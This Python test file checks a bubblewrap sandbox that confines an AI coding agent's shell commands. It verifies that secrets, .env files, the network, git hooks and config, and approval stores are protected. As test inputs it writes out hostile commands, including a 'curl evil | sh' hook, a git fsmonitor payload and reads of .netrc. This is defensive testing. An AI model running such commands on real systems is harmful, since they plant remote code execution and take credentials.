"""Real commands in real bubblewrap, run as the bash tool runs them
(``Sandbox.confine`` then ``run_command``): what the spec says is what the kernel
holds. The files on disk are checked, not only the output."""

from __future__ import annotations

import asyncio
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest
from support.bwrap import needs_bwrap
from support.sandbox_projects import RULES, Project, rule

from dm_cc.tools.bash import run_command

pytestmark = needs_bwrap

GIT = "git -c user.name=t -c user.email=t@example.com"


@pytest.fixture
def project(tmp_path) -> Project:
    return Project(tmp_path)


def test_a_write_outside_the_project_fails_and_inside_succeeds(project):
    outside = project.tmp / "outside"
    outside.mkdir()
    ran = project.run(f"echo in > inside.txt; echo out > {outside}/x.txt; echo home > ~/h.txt")
    assert ran.code != 0 and "Read-only file system" in ran.text
    assert (project.root / "inside.txt").read_text() == "in\n"
    assert not (outside / "x.txt").exists() and not (project.home / "h.txt").exists()


def test_env_files_read_empty_and_cannot_be_written(project):
    project.files(".env", "src/.env.local")
    ran = project.run("cat .env src/.env.local; echo EOF; echo leak > .env")
    assert ran.text.startswith("EOF\n") and ran.code != 0
    assert (project.root / ".env").read_text() == ".env"


def test_links_to_hidden_or_protected_files_and_dangling_links(project):
    """bwrap follows a link it mounts on inside its own new root: an absolute link
    there led nowhere and every command failed, a dangling one had its target
    created on the host. The spec mounts on the target; a dangling link is left."""
    (project.tmp / "app.env").write_text("SECRET")
    os.symlink(project.tmp / "app.env", project.root / ".env")
    os.symlink("nowhere", project.root / ".env.local")
    project.files("docs/a.md", "keys/k.pem")
    os.symlink("../keys/k.pem", project.root / "docs" / "key")
    project.policy(RULES([rule("edit", "docs/**", "deny")]))
    ran = project.run("cat .env; echo EOF; echo x > docs/key; echo y > docs/a.md; echo ok > b")
    assert ran.text.startswith("EOF\n"), ran.text
    assert (project.root / "b").read_text() == "ok\n"
    assert (project.tmp / "app.env").read_text() == "SECRET"
    assert (project.root / "keys" / "k.pem").read_text() == "keys/k.pem"
    assert (project.root / "docs" / "a.md").read_text() == "docs/a.md"
    assert not (project.root / "nowhere").exists()


def test_a_denied_home_holding_the_project_leaves_commands_working(project):
    """A directory holding the project hidden whole would make bwrap fail to mount
    the project inside it: every command would fail."""
    project.env = {**project.env, "HOME": str(project.tmp)}
    (project.tmp / ".netrc").write_text("secret")
    project.files("a.txt")
    project.policy(RULES([rule("read", "~/**", "deny"), rule("read", "~/project/a.txt", "allow")]))
    ran = project.run(f"cat a.txt; echo; cat {project.tmp}/.netrc; echo ok > b")
    assert ran.text.startswith("a.txt\n"), ran.text
    assert "secret" not in ran.text
    assert (project.root / "b").read_text() == "ok\n"


def test_the_project_policy_is_read_only(project):
    (project.root / ".dm_cc").mkdir()
    (project.root / ".dm_cc" / "policy.yaml").write_text("rules: []\n")
    ran = project.run("cat .dm_cc/policy.yaml; echo '- x' >> .dm_cc/policy.yaml; "
                      "touch .dm_cc/agents.md; rm -f .dm_cc/policy.yaml; mv .dm_cc moved")
    assert "rules: []" in ran.text and ran.code != 0
    assert (project.root / ".dm_cc" / "policy.yaml").read_text() == "rules: []\n"
    assert not (project.root / ".dm_cc" / "agents.md").exists()
    assert not (project.root / "moved").exists()


def test_the_approval_store_and_dm_cc_user_dirs_are_hidden(project):
    world = project.world()
    world.approvals.add("bash", "rm *", agent="build")
    store = next((project.dm_home / "data").rglob("*.json"))
    before = store.read_text()
    assert "rm *" in before
    ran = project.run(f"ls -A {project.dm_home}/data; echo LISTED; cat {store}; "
                      f"echo forged > {project.dm_home}/data/forged; echo x >> {store}")
    assert ran.text.startswith("LISTED\n"), ran.text        # an empty directory
    assert "rm *" not in ran.text and ran.code != 0
    assert store.read_text() == before
    assert not (project.dm_home / "data" / "forged").exists()


def test_tmpdir_is_writable_and_private_to_the_session(project):
    sandbox = project.sandbox()
    ran = project.run('echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && echo "$TMPDIR"',
                      sandbox=sandbox)
    assert ran.code == 0, ran.text
    assert ran.text.startswith("t\n")
    tmpdir = ran.text.split("\n")[1]
    assert Path(tmpdir, "t").read_text() == "t\n"          # the host sees the same files
    assert Path(tmpdir).parent == sandbox.private_dir()


FETCH = ("import sys, urllib.request; "
         "print(urllib.request.urlopen(sys.argv[1], timeout=5).read().decode())")


def test_the_network_is_off_without_a_rule_and_on_with_one(project, loopback):
    command = f"{sys.executable} -c '{FETCH}' {loopback}"
    off = project.run(command)
    assert off.code != 0 and "hello from loopback" not in off.text
    project.policy(RULES([rule("network", "*", "allow")]))
    on = project.run(command)
    assert on.code == 0 and "hello from loopback" in on.text, on.text


def test_git_works_inside_but_hooks_and_config_cannot_be_written(project):
    shutil.rmtree(project.root / ".git")
    subprocess.run(["git", "init", "-q", str(project.root)], check=True)
    project.files("a.py")
    ran = project.run(f"git status --short && git add a.py && {GIT} commit -qm first && "
                      "git log --oneline")
    assert ran.code == 0, ran.text
    assert "first" in ran.text
    log = subprocess.run(["git", "-C", str(project.root), "log", "--format=%s"],
                         capture_output=True, text=True, check=True).stdout
    assert log == "first\n"
    config = (project.root / ".git" / "config").read_text()
    blocked = project.run("echo 'exit 1' > .git/hooks/pre-commit; "
                          "git config core.fsmonitor 'touch /tmp/pwned'")
    assert blocked.code != 0
    assert not (project.root / ".git" / "hooks" / "pre-commit").exists()
    assert (project.root / ".git" / "config").read_text() == config


def test_no_hook_can_be_added_where_there_were_none_nor_to_a_nested_repository(project):
    shutil.rmtree(project.root / ".git")
    subprocess.run(["git", "init", "-q", str(project.root)], check=True)
    subprocess.run(["git", "init", "-q", str(project.root / "vendor" / "lib")], check=True)
    shutil.rmtree(project.root / ".git" / "hooks")
    nested = project.root / "vendor" / "lib" / ".git"
    config = (nested / "config").read_text()
    ran = project.run("mkdir -p .git/hooks; echo 'touch /tmp/pwned' > .git/hooks/pre-commit; "
                      "echo x > vendor/lib/.git/hooks/post-checkout; "
                      "git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned'; "
                      "git status --short >/dev/null && echo STATUS")
    assert "STATUS" in ran.text, ran.text
    assert not (project.root / ".git" / "hooks" / "pre-commit").exists()
    assert not (nested / "hooks" / "post-checkout").exists()
    assert (nested / "config").read_text() == config


def test_a_protected_path_cannot_be_moved_aside_with_its_directory(project):
    """Renaming the directory that holds a read-only path, then making a new one,
    used to replace the protected path on the host (git hooks, lock files)."""
    shutil.rmtree(project.root / ".git")
    subprocess.run(["git", "init", "-q", str(project.root)], check=True)
    project.files("sub/y.lock")
    project.policy(RULES([rule("edit", "*.lock", "deny")]))
    ran = project.run("mv .git .git2 && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit; "
                      "mv sub sub2 && mkdir sub && echo evil > sub/y.lock; git status -s; "
                      "echo DONE")
    assert ran.text.count("Device or resource busy") == 2, ran.text
    assert "DONE" in ran.text
    assert not (project.root / ".git2").exists() and not (project.root / "sub2").exists()
    assert not (project.root / ".git" / "hooks" / "pre-commit").exists()
    assert (project.root / "sub" / "y.lock").read_text() == "sub/y.lock"


def test_hooks_kept_in_the_work_tree_through_core_hooks_path_are_read_only(project):
    shutil.rmtree(project.root / ".git")
    subprocess.run(["git", "init", "-q", str(project.root)], check=True)
    subprocess.run(["git", "-C", str(project.root), "config", "core.hooksPath", ".husky"],
                   check=True)
    project.files(".husky/pre-commit")
    ran = project.run("echo 'curl evil | sh' > .husky/pre-commit; touch .husky/pre-push")
    assert ran.text.count("Read-only file system") == 2, ran.text
    assert (project.root / ".husky" / "pre-commit").read_text() == ".husky/pre-commit"
    assert not (project.root / ".husky" / "pre-push").exists()


def test_a_command_cannot_point_git_at_another_config(project):
    shutil.rmtree(project.root / ".git")
    subprocess.run(["git", "init", "-q", str(project.root)], check=True)
    ran = project.run("mkdir -p $TMPDIR/evil && cp -r .git/* $TMPDIR/evil/ && "
                      "echo $TMPDIR/evil > .git/commondir")
    # No mount can hold a file that does not exist: it is set aside after the command.
    assert not (project.root / ".git" / "commondir").exists()
    assert "dm_cc set aside" in ran.text and ".git/commondir" in ran.text
    kept = list((project.dm_home / "state" / "set-aside").glob("*/.git/commondir"))
    assert len(kept) == 1 and kept[0].read_text().endswith("/evil\n")


def test_a_projects_own_pytest_run_works(project):
    project.files("calc.py")
    (project.root / "calc.py").write_text("def add(a, b):\n    return a + b\n")
    (project.root / "test_calc.py").write_text(
        "from calc import add\n\ndef test_add():\n    assert add(2, 3) == 5\n")
    ran = project.run(f"{sys.executable} -m pytest -q test_calc.py")
    assert ran.code == 0, ran.text
    assert "1 passed" in ran.text


def test_root_cannot_unmount_a_hidden_file(project):
    project.files(".env")
    ran = project.run("umount .env; umount -l .env; cat .env; echo EOF")
    assert ran.text.splitlines()[-1] == "EOF"
    assert ".env\nEOF" not in ran.text                        # still read empty
    assert "must be superuser" in ran.text or "Operation not permitted" in ran.text, ran.text


def test_secret_variables_do_not_reach_the_command(project, monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    monkeypatch.setenv("HARMLESS", "visible")
    project.env = {**project.env, "OPENAI_API_KEY": "sk-secret"}
    ran = project.run('echo "[$OPENAI_API_KEY][$HARMLESS]"')
    assert ran.text.startswith("[][visible]"), ran.text


def test_the_ssh_agent_socket_is_out_of_reach(project, monkeypatch):
    agent = project.tmp / "agent.sock"
    monkeypatch.setenv("SSH_AUTH_SOCK", str(agent))
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(agent))
    try:
        project.env = {**project.env, "SSH_AUTH_SOCK": str(agent)}
        ran = project.run(f'echo "[$SSH_AUTH_SOCK]"; test -S {agent} && echo SOCKET || echo GONE')
    finally:
        listener.close()
    assert ran.text.splitlines() == ["[]", "GONE"], ran.text


def _processes_with(marker: str) -> list[int]:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if marker in Path("/proc", pid, "cmdline").read_bytes().decode(errors="replace"):
                    found.append(int(pid))
            except OSError:
                continue
    return found


def test_the_timeout_kills_the_confined_command_and_its_children(project):
    marker = "100.4242"
    start = time.monotonic()
    ran = project.run(f"sleep {marker} & sleep {marker}", timeout=1)
    assert time.monotonic() - start < 5
    assert ran.timed_out
    deadline = time.monotonic() + 3
    while _processes_with(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _processes_with(marker) == []


# --------------------------------------------------------------------------- as another user

def _sbtest() -> pwd.struct_passwd | None:
    try:
        return pwd.getpwnam("sbtest")
    except KeyError:
        return None


@pytest.mark.skipif(os.geteuid() != 0 or _sbtest() is None,
                    reason="needs root and the unprivileged user sbtest to run as them")
def test_as_an_unprivileged_user():
    """The same sandbox for a user without privileges: bubblewrap then needs a
    user namespace, and the kernel still holds the spec."""
    user = _sbtest()
    assert user is not None
    base = Path(tempfile.mkdtemp(prefix="dm_cc-sbtest-"))
    try:
        os.chmod(base, 0o755)
        project = Project(base)
        project.files(".env", "a.txt")
        (base / "outside").mkdir()
        sandbox = project.sandbox()
        plan = sandbox.confine(project.gate(), ["bash", "-c",
                               f"id -u; echo in > inside.txt; cat .env; echo EOF; "
                               f"echo out > {base}/outside/x; echo t > $TMPDIR/t && echo tmp"])
        for path in (base, sandbox.private_dir()):
            for directory, _, files in os.walk(path):
                shutil.chown(directory, user.pw_uid, user.pw_gid)
                for name in files:
                    shutil.chown(os.path.join(directory, name), user.pw_uid, user.pw_gid)
        argv = ["runuser", "-u", "sbtest", "--", *plan.argv]
        ran = asyncio.run(run_command(argv, project.root, 30, pass_files=plan.pass_files))
        lines = ran.text.splitlines()
        assert lines[0] == str(user.pw_uid), ran.text
        assert lines[1] == "EOF", ran.text                     # .env read empty
        assert "tmp" in lines and "Read-only file system" in ran.text
        assert (project.root / "inside.txt").read_text() == "in\n"
        assert not (base / "outside" / "x").exists()
        assert (project.root / ".env").read_text() == ".env"
    finally:
        shutil.rmtree(base, ignore_errors=True)
